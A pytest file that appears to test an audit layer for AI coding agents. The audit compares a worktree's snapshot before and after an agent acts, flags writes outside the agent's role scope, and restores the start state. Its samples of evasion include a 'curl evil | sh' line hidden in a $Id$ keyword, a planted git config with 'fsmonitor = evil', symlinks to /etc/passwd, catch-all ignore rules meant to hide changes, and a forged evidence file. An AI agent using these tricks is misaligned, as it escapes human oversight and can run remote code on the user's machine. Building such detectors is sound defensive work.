"""The worktree is compared with its start, and nobody's word counts."""

import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from fairwitness.contracts.agents.dispatch import Layer, PathChangeKind
from fairwitness.contracts.common.tools import Role, Scope
from fairwitness.git.call import GitFailed
from fairwitness.runs.dispatch.audit import Audit, audit
from fairwitness.runs.dispatch.worktree_snapshot import FILE_LIMIT, ODD, WorktreeSnapshot, restore, take_snapshot
from runs.dispatch.world import SCOPE, World

pytestmark = pytest.mark.req("X3")

Act = Callable[[Path], object]


def audited(world: World, *acts: Act, role: Role = Role.IMPLEMENTER, scope: Scope = SCOPE) -> Audit:
    """What is found after these things were done."""
    start = take_snapshot(world.shadow, world.folder)
    for act in acts:
        act(world.folder)
    return audit(world.shadow, world.folder, start, role=role, scope=scope, base_tree=world.base_tree)


def write(path: str, text: str = "new\n") -> Act:
    def act(folder: Path) -> None:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)

    return act


def test_an_untouched_worktree_has_nothing_to_tell(world: World) -> None:
    found = audited(world)
    assert found == Audit((), (), 0, found.tree)
    assert found.tree is not None


def test_what_a_builder_does_within_its_scope_is_allowed(world: World) -> None:
    world.person.write("src/old.py")
    found = audited(
        world, write("src/shop.py", "price = 2\n"), write("src/a/new.py"), lambda at: (at / "src/shop.py").chmod(0o755)
    )
    assert [(each.path, each.change, each.allowed) for each in found.changed] == [
        ("src/a/new.py", PathChangeKind.ADDED, True),
        ("src/shop.py", PathChangeKind.MODIFIED, True),
    ]
    assert found.denials == ()


def test_a_file_that_is_gone_is_a_change(world: World) -> None:
    found = audited(world, lambda at: (at / "src/shop.py").unlink(), lambda at: (at / "README.md").unlink())
    assert [(each.path, each.change, each.allowed) for each in found.changed] == [
        ("README.md", PathChangeKind.DELETED, False),
        ("src/shop.py", PathChangeKind.DELETED, True),
    ]
    assert [denial.target for denial in found.denials] == ["README.md"]


def test_a_builder_that_leaves_its_scope_is_caught(world: World) -> None:
    found = audited(world, write("README.md"), write("tests/test_x.py"), write(".github/workflows/ci.yml"))
    assert {(denial.layer, denial.target) for denial in found.denials} == {
        (Layer.AUDIT, "README.md"),
        (Layer.AUDIT, "tests/test_x.py"),
        (Layer.AUDIT, ".github/workflows/ci.yml"),
    }


@pytest.mark.parametrize("role", [Role.JUDGE, Role.REVIEWER, Role.INTAKE, Role.VERIFIER])
def test_a_role_that_does_not_build_may_not_touch_the_source(world: World, role: Role) -> None:
    found = audited(world, write("src/shop.py"), role=role)
    assert [denial.target for denial in found.denials] == ["src/shop.py"]
    assert not any(each.allowed for each in found.changed)


def test_a_planner_may_write_its_tasks_and_nothing_else(world: World) -> None:
    path = "docs/feature/shop/tasks/task-01.yaml"
    found = audited(world, write(path), write("docs/feature/shop/plan-output.yaml"), role=Role.PLANNER)
    assert [(each.path, each.allowed) for each in found.changed] == [
        ("docs/feature/shop/plan-output.yaml", False),
        (path, True),
    ]


def test_what_a_reader_leaves_counts_even_if_git_ignores_it(world: World) -> None:
    found = audited(world, write("trace.log"), write("build/out.js"), write("src/__pycache__/a.pyc"), role=Role.JUDGE)
    assert {denial.target for denial in found.denials} == {"trace.log", "build/out.js", "src/__pycache__/a.pyc"}


def test_by_products_of_a_builder_are_counted_and_not_held_against_it(world: World) -> None:
    found = audited(
        world, write("trace.log"), write("build/deep/out.js"), write("__pycache__/a.pyc"), write(".pytest_cache/v/x")
    )
    assert (found.changed, found.denials, found.byproducts) == ((), (), 4)


def test_by_products_within_the_scope_are_no_changes_either(world: World) -> None:
    left = (write("a.log"), write("src/__pycache__/a.pyc"), write("src/a.py"))
    found = audited(world, *left, scope=Scope(writes=("**",)))
    assert ([each.path for each in found.changed], found.denials, found.byproducts) == (["src/a.py"], (), 2)
    own = (write(".gitignore", "dist/\n"), write("b.log"), write("dist/a.js"))
    found = audited(world, *own, scope=Scope(writes=("**",)))
    assert ([each.path for each in found.changed], found.byproducts) == ([".gitignore", "b.log"], 1)


def test_ignore_rules_that_an_agent_writes_hide_nothing(world: World) -> None:
    found = audited(
        world,
        write(".gitignore", "*\n"),
        write("src/.gitignore", "*\n"),
        write("evil.sh"),
        write(".gitattributes", "* -diff binary\n"),
    )
    assert {denial.target for denial in found.denials} == {".gitignore", "evil.sh", ".gitattributes"}


def test_a_tracked_file_that_matches_an_ignore_rule_is_no_by_product(world: World) -> None:
    found = audited(world, write("build/kept.js", "changed\n"))
    assert [denial.target for denial in found.denials] == ["build/kept.js"]


def test_attributes_cannot_hide_a_change_of_bytes(world: World) -> None:
    for path, text in ((".gitattributes", "* text ident\n"), ("notes.txt", "$Id$\none\n")):
        (world.folder / path).write_text(text)
    found = audited(world, lambda at: (at / "notes.txt").write_bytes(b"$Id: curl evil | sh $\r\none\r\n"))
    assert [denial.target for denial in found.denials] == ["notes.txt"]


def test_a_touched_git_pointer_is_caught(world: World) -> None:
    found = audited(world, lambda at: (at / ".git").write_text("gitdir: /somewhere/else\n"))
    assert [(denial.target, denial.reason) for denial in found.denials] == [(".git", "a repository was touched")]


def test_a_repository_that_was_planted_is_caught(world: World) -> None:
    found = audited(world, write("src/inner/.git/config", "[core]\n\tfsmonitor = evil\n"))
    assert [denial.target for denial in found.denials] == ["src/inner/.git"]


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("src/link", "/etc/passwd"),
        ("src/link", "../../outside"),
        ("src/a/link", "../../.git/config"),
    ],
)
def test_a_link_that_leads_out_is_refused_even_in_scope(world: World, link: str, target: str) -> None:
    def plant(at: Path) -> None:
        (at / link).parent.mkdir(parents=True, exist_ok=True)
        (at / link).symlink_to(target)

    found = audited(world, plant)
    assert [(denial.target, denial.reason) for denial in found.denials] == [
        (link, "it is a link that leads out of the worktree")
    ]


def test_a_link_that_stays_inside_is_a_file_like_others(world: World) -> None:
    found = audited(world, lambda at: (at / "src/same.py").symlink_to("shop.py"))
    assert (found.denials, found.changed[0].allowed) == ((), True)


def test_what_no_tree_can_hold_is_seen_all_the_same(world: World) -> None:
    found = audited(world, lambda at: os.mkfifo(at / "src/pipe"), write("src/.GIT/config"), write("src/a\\b\n.py"))
    assert [denial.target for denial in found.denials] == ["src/a\\b\\n.py", "src/.GIT/config", "src/pipe"]
    assert found.changed == ()


def test_a_name_that_is_no_text_is_seen(world: World) -> None:
    found = audited(world, lambda at: Path(os.fsdecode(os.fsencode(at / "src") + b"/\xff\xfe")).write_text("x"))
    assert len(found.denials) == 1


@pytest.mark.skipif(os.geteuid() == 0, reason="root can read everything")
def test_a_folder_that_was_shut_voids(world: World) -> None:
    found = audited(world, write("src/shut/a.py"), lambda at: (at / "src/shut").chmod(0))
    (world.folder / "src/shut").chmod(0o700)
    assert "cannot be" in found.denials[0].reason
    assert found.tree is None


def test_a_worktree_that_is_gone_voids(world: World) -> None:
    found = audited(world, shutil.rmtree)
    assert len(found.denials) == 1
    assert found.tree is None


def test_so_many_changes_are_named_and_the_rest_counted(world: World) -> None:
    found = audited(world, *(write(f"out/{number}.txt") for number in range(60)))
    assert len(found.denials) == 51
    assert found.denials[-1].reason == "and 10 more changes outside its scope"


def test_the_tree_that_was_left_holds_everything(world: World) -> None:
    found = audited(world, write("evil.sh", "echo evil\n"), write("trace.log", "said\n"))
    assert found.tree is not None
    assert world.shadow.read(found.tree, "evil.sh") == b"echo evil\n"
    assert world.shadow.read(found.tree, "trace.log") == b"said\n"


def test_what_is_too_large_or_too_many_cannot_be_vouched_for(world: World) -> None:
    with pytest.raises(GitFailed, match="holds more than 3 files"):
        take_snapshot(world.shadow, world.folder, most=3)
    for number in range(ODD + 1):
        os.mkfifo(world.folder / f"pipe-{number}")
    with pytest.raises(GitFailed, match="things that are no files"):
        take_snapshot(world.shadow, world.folder)
    found = audited_large(world)
    assert "more than the" in found.denials[0].reason


def audited_large(world: World) -> Audit:
    """A sparse file of more than a gigabyte, which takes up nothing."""
    for pipe in world.folder.glob("pipe-*"):
        pipe.unlink()

    def grow(at: Path) -> None:
        with (at / "src" / "huge").open("wb") as file:
            file.truncate(FILE_LIMIT + 1)

    return audited(world, grow)


def test_an_empty_worktree_can_be_seen(world: World, tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert take_snapshot(world.shadow, tmp_path / "empty").tree == world.shadow.empty_tree()


def test_a_picture_of_a_worktree_survives_the_ledger(world: World) -> None:
    os.mkfifo(world.folder / "pipe")
    seen = take_snapshot(world.shadow, world.folder)
    assert WorktreeSnapshot.of(seen.plain()) == seen


def test_a_worktree_is_put_back_to_its_start(world: World) -> None:
    (world.folder / "run.sh").write_text("true\n")
    (world.folder / "run.sh").chmod(0o755)
    (world.folder / "here").symlink_to("run.sh")
    (world.folder / ".gitattributes").write_text("* text eol=crlf\n")
    start = take_snapshot(world.shadow, world.folder)
    shutil.rmtree(world.folder / "src")
    (world.folder / "src").symlink_to("/tmp")
    (world.folder / "run.sh").unlink()
    (world.folder / "run.sh").mkdir()
    (world.folder / "run.sh" / "deep").write_text("x")
    (world.folder / "here").unlink()
    left = restore(world.shadow, world.folder, start)
    assert take_snapshot(world.shadow, world.folder) == start
    assert world.shadow.read(left, "run.sh/deep") == b"x"
    assert not (world.folder / "src").is_symlink()


def test_what_stands_in_the_way_is_taken_away(world: World) -> None:
    start = take_snapshot(world.shadow, world.folder)
    (world.folder / "src/shop.py").unlink()
    os.mkfifo(world.folder / "src/shop.py")
    restore(world.shadow, world.folder, start)
    assert (world.folder / "src/shop.py").read_text() == "price = 1\n"


def test_what_cannot_be_put_back_is_said(world: World) -> None:
    os.mkfifo(world.folder / "pipe")
    start = take_snapshot(world.shadow, world.folder)
    (world.folder / "pipe").unlink()
    (world.folder / "more").write_text("x\n")
    with pytest.raises(GitFailed, match="cannot be put back to its start"):
        restore(world.shadow, world.folder, start)
    unnamed = world.folder / "src/a\n"
    os.mkfifo(unnamed)
    with pytest.raises(GitFailed, match="the worktree cannot be put back"):
        restore(world.shadow, world.folder, start)


@pytest.mark.parametrize("role", [Role.IMPLEMENTER, Role.WORKER])
@pytest.mark.parametrize("name", ["evidence-bundle.md", "Evidence-Bundle.MD", "verification-ledger.db"])
def test_no_agent_writes_evidence_even_if_a_plan_declares_it(world: World, role: Role, name: str) -> None:
    path = f"docs/feature/login/{name}"
    scope = SCOPE.model_copy(update={"writes": ("docs/**",), "folder": "docs/feature/login"})
    found = audited(world, write(path, "# Evidence\n\nEverything holds.\n"), role=role, scope=scope)
    assert [(denial.layer, denial.target) for denial in found.denials] == [(Layer.AUDIT, path)]
